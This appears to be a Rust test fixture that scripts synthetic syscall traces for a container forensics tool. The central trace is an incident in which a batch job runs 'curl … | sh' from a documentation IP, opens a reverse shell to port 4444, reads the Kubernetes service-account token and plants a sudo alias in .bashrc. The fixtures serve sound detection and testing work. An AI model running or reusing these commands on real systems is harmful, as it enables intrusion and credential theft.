//! What happened: a batch job fetches a binary, runs it, and serves a stranger a shell.

use afterimage_format::{ContainerUid, FieldTag, OwnedEvent, layout::exec};

use super::{HOSTILE, HOSTILE_TEXT, INCIDENT, RUNNING, SIBLING, script::Script};

type Events = Vec<(ContainerUid, OwnedEvent)>;

const O_WRONLY_CREAT: u64 = 0o101;
const O_APPEND: u64 = 0o2001;
const TOKEN: &[u8] = b"/run/secrets/kubernetes.io/serviceaccount/token";

/// Pids as the host sees them.
const PYTHON: u32 = 31_001;
const SH: u32 = 31_398;
const CURL: u32 = 31_401;
const SH2: u32 = 31_402;
const DROPPED: u32 = 31_412;
const SHELL: u32 = 31_418;

pub(super) fn events() -> Events {
    let mut s = Script::new(INCIDENT);
    start(&mut s, 0.0, PYTHON);
    work(&mut s, 300.0, 39_000.0, 500.0);
    api(&mut s);
    download(&mut s);
    dropped(&mut s);
    shell(&mut s);
    end(&mut s);
    s.events
}

fn start(s: &mut Script, ms: f64, pid: u32) {
    s.exec(ms, (pid, 900), b"/usr/bin/python3", &[b"python3", b"etl.py"], exec::EXE_LOWER_LAYER);
    for (i, lib) in
        ["libc.so.6", "libm.so.6", "libz.so.1", "libssl.so.3", "libcrypto.so.3"].iter().enumerate()
    {
        let ms = ms + 4.0 + i as f64 * 3.0;
        s.open(ms, pid, format!("/usr/lib/{lib}").as_bytes(), 0o2_000_000, 3);
        s.read(ms + 0.5, pid, 3, b"\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00");
        s.call((ms + 1.0, pid), "mmap", &[0, 90_112, 5, 2, 3, 0], 0x7f00_0000_0000, &[]);
        s.call((ms + 1.5, pid), "close", &[3], 0, &[]);
    }
    s.open(ms + 30.0, pid, b"/app/etl.py", 0o2_000_000, 3);
    s.open(ms + 31.0, pid, b"/usr/lib/python3/sitecustomize.py", 0o2_000_000, -2);
}

/// Input is read and output written, a little every `step` milliseconds.
fn work(s: &mut Script, from: f64, to: f64, step: f64) {
    s.fork(from, PYTHON, 31_009);
    s.open(from + 2.0, 31_009, b"/app/out/part-0001.parquet", O_WRONLY_CREAT, 7);
    let mut ms = from + 10.0;
    while ms < to {
        s.read(ms, 31_009, 5, b"2026-11-21,4711,EUR,19.90\n");
        s.write(ms + 1.0, 31_009, 7, b"PAR1\x15\x04\x15\x10");
        ms += step;
    }
}

fn api(s: &mut Script) {
    s.connect(5_020.0, PYTHON, 9, [10, 0, 0, 53], 53);
    s.call(
        (5_021.0, PYTHON),
        "sendto",
        &[9, 0, 35],
        35,
        &[(FieldTag::PAYLOAD, b"\x12\x34\x01\x00api\x07example\x03com")],
    );
    s.connect(5_060.0, PYTHON, 9, [198, 51, 100, 7], 443);
    s.write(5_090.0, PYTHON, 9, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03");
    s.read(5_140.0, PYTHON, 9, b"\x16\x03\x03\x00\x7a\x02\x00\x00\x76");
}

fn download(s: &mut Script) {
    s.fork(17_600.0, PYTHON, SH);
    let line: &[u8] = b"curl -s http://203.0.113.9/x | sh";
    s.exec(17_602.0, (SH, PYTHON), b"/bin/sh", &[b"sh", b"-c", line], exec::EXE_LOWER_LAYER);
    s.call((17_605.0, SH), "pipe2", &[0x7ffe_4000, 0], 0, &[(FieldTag::FDS, &[3, 0, 0, 0, 4, 0, 0, 0])]);
    s.fork(18_050.0, SH, CURL);
    s.fork(18_052.0, SH, SH2);
    s.exec(
        18_060.0,
        (CURL, SH),
        b"/usr/bin/curl",
        &[b"curl", b"-s", b"http://203.0.113.9/x"],
        exec::EXE_LOWER_LAYER,
    );
    s.exec(18_063.0, (SH2, SH), b"/bin/sh", &[b"sh"], exec::EXE_LOWER_LAYER);
    s.connect(18_080.0, CURL, 5, [203, 0, 113, 9], 80);
    s.call(
        (18_090.0, CURL),
        "sendto",
        &[5, 0, 78],
        78,
        &[(FieldTag::PAYLOAD, b"GET /x HTTP/1.1\r\nHost: 203.0.113.9\r\n")],
    );
    s.open(18_101.0, CURL, b"/tmp/.x", O_WRONLY_CREAT, 6);
    for i in 0..12 {
        let ms = 18_140.0 + f64::from(i) * 35.0;
        s.call((ms, CURL), "recvfrom", &[5, 0, 4_096], 4_096, &[(FieldTag::PAYLOAD, &[0x90; 4_096])]);
        s.write(ms + 3.0, CURL, 6, &[0x7f, b'E', b'L', b'F', 2, 1, 1, 0, 0, 0, 0, 0]);
    }
    s.call((18_640.0, CURL), "close", &[6], 0, &[]);
    s.exit(18_700.0, CURL, 0);
    s.call((19_100.0, SH2), "fchmodat", &[-100_i64 as u64, 0, 0o755], 0, &[(FieldTag::PATH, b"/tmp/.x")]);
}

fn dropped(s: &mut Script) {
    s.fork(19_290.0, SH2, DROPPED);
    s.exec(
        19_292.1,
        (DROPPED, SH2),
        b"/tmp/.x",
        &[b"/tmp/.x", b"-q"],
        exec::EXE_UPPER_LAYER | exec::EXE_WRITABLE,
    );
    s.call((19_294.0, DROPPED), "mmap", &[0, 49_152, 5, 2, u64::MAX, 0], 0x7f11_0000_0000, &[]);
    s.open(19_301.1, DROPPED, b"/proc/self/maps", 0, 3);
    s.call((19_310.2, DROPPED), "readlink", &[0, 0, 4_096], 7, &[(FieldTag::PATH, b"/proc/self/exe")]);
    s.connect(19_812.0, DROPPED, 4, [203, 0, 113, 9], 4_444);
    s.write(19_813.0, DROPPED, 4, &[0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3, 0x5a]);
    s.read(19_990.0, DROPPED, 4, b"\x16\x03\x03\x00\x02ok");
}

fn shell(s: &mut Script) {
    s.fork(20_002.1, DROPPED, SHELL);
    for fd in 0..3 {
        s.call((20_004.4 + fd as f64 * 0.1, SHELL), "dup2", &[4, fd], fd as i64, &[]);
    }
    s.exec(20_005.2, (SHELL, DROPPED), b"/bin/sh", &[b"/bin/sh", b"-i"], exec::EXE_LOWER_LAYER);
    s.read(21_441.0, SHELL, 0, b"id\n");
    child(s, 21_446.1, 31_431, b"/usr/bin/id", &[b"id"]);
    s.write(21_448.0, 31_431, 1, b"uid=1000(app) gid=1000(app) groups=1000(app)\n");
    s.exit(21_449.0, 31_431, 0);
    s.read(22_370.2, SHELL, 0, &[b"cat ", TOKEN, b"\n"].concat());
    child(s, 22_379.0, 31_433, b"/bin/cat", &[b"cat", TOKEN]);
    s.open(22_380.1, 31_433, TOKEN, 0, 3);
    s.read(22_381.1, 31_433, 3, &[b'e'; 932]);
    s.write(22_381.9, 31_433, 1, &[b'e'; 932]);
    s.exit(22_383.0, 31_433, 0);
    s.read(25_190.0, SHELL, 0, b"echo 'alias sudo=/tmp/.x' >> ~/.bashrc\n");
    s.open(25_191.0, SHELL, b"/home/app/.bashrc", O_APPEND, 3);
    s.write(25_192.0, SHELL, 1, b"alias sudo=/tmp/.x\n");
    s.call((30_400.0, SHELL), "setuid", &[0], -1, &[]);
    s.read(37_050.0, SHELL, 0, b"rm -f /tmp/.x; exit\n");
    child(s, 37_098.0, 31_440, b"/bin/rm", &[b"rm", b"-f", b"/tmp/.x"]);
    s.call((37_100.0, 31_440), "unlinkat", &[-100_i64 as u64, 0, 0], 0, &[(FieldTag::PATH, b"/tmp/.x")]);
    s.exit(37_101.0, 31_440, 0);
    s.exit(37_120.0, SHELL, 0);
}

fn child(s: &mut Script, ms: f64, pid: u32, exe: &[u8], argv: &[&[u8]]) {
    s.fork(ms - 1.0, SHELL, pid);
    s.exec(ms, (pid, SHELL), exe, argv, exec::EXE_LOWER_LAYER);
}

fn end(s: &mut Script) {
    s.call((37_130.0, SH2), "kill", &[u64::from(DROPPED % 1_000), 15], 0, &[]);
    s.exit(37_131.0, DROPPED, -15);
    s.exit(37_140.0, SH2, 0);
    s.exit(37_150.0, SH, 0);
    s.exit(39_400.0, 31_009, 0);
    s.exit(39_480.0, PYTHON, 0);
}

/// The same job without the incident, its recording not complete.
pub(super) fn sibling() -> Events {
    let mut s = Script::new(SIBLING);
    start(&mut s, 50_000.0, 32_001);
    for i in 0..280 {
        let ms = 50_300.0 + f64::from(i) * 100.0;
        if (61_000.0..61_800.0).contains(&ms) {
            continue;
        }
        s.read(ms, 32_001, 5, b"2026-11-21,4712,EUR,29.90\n");
        s.write(ms + 1.0, 32_001, 7, b"PAR1");
    }
    s.exit(81_000.0, 32_001, 0);
    s.events
}

/// A web server that goes on.
pub(super) fn running() -> Events {
    let mut s = Script::new(RUNNING);
    s.exec(
        10_000.0,
        (33_001, 900),
        b"/usr/sbin/nginx",
        &[b"nginx", b"-g", b"daemon off;"],
        exec::EXE_LOWER_LAYER,
    );
    for i in 0..90 {
        let ms = 10_100.0 + f64::from(i) * 900.0;
        s.call((ms, 33_001), "accept4", &[6, 0, 0, 0], 8, &[]);
        s.read(ms + 0.3, 33_001, 8, b"GET / HTTP/1.1\r\n");
        s.write(ms + 0.6, 33_001, 8, b"HTTP/1.1 200 OK\r\n");
        s.call((ms + 0.8, 33_001), "close", &[8], 0, &[]);
    }
    s.events
}

/// Every byte string that can be is an attack on the terminal.
pub(super) fn hostile() -> Events {
    let mut s = Script::new(HOSTILE);
    s.exec(90_000.0, (34_001, 900), HOSTILE_TEXT, &[HOSTILE_TEXT, HOSTILE_TEXT], exec::EXE_UPPER_LAYER);
    s.open(90_010.0, 34_001, HOSTILE_TEXT, O_WRONLY_CREAT, 3);
    s.open(90_011.0, 34_001, HOSTILE_TEXT, 0, -2);
    s.write(90_020.0, 34_001, 3, HOSTILE_TEXT);
    s.read(90_030.0, 34_001, 0, HOSTILE_TEXT);
    s.call(
        (90_040.0, 34_001),
        "rename",
        &[0, 0],
        0,
        &[(FieldTag::PATH, HOSTILE_TEXT), (FieldTag::PATH2, HOSTILE_TEXT)],
    );
    let unix = [&[1, 0], HOSTILE_TEXT].concat();
    s.call((90_050.0, 34_001), "connect", &[4, 0, 110], -111, &[(FieldTag::SOCKADDR, &unix)]);
    s.fork(90_060.0, 34_001, 34_002);
    s.exec(90_061.0, (34_002, 34_001), HOSTILE_TEXT, &[HOSTILE_TEXT], 0);
    s.exit(91_990.0, 34_002, -9);
    s.exit(92_000.0, 34_001, 1);
    s.events
}
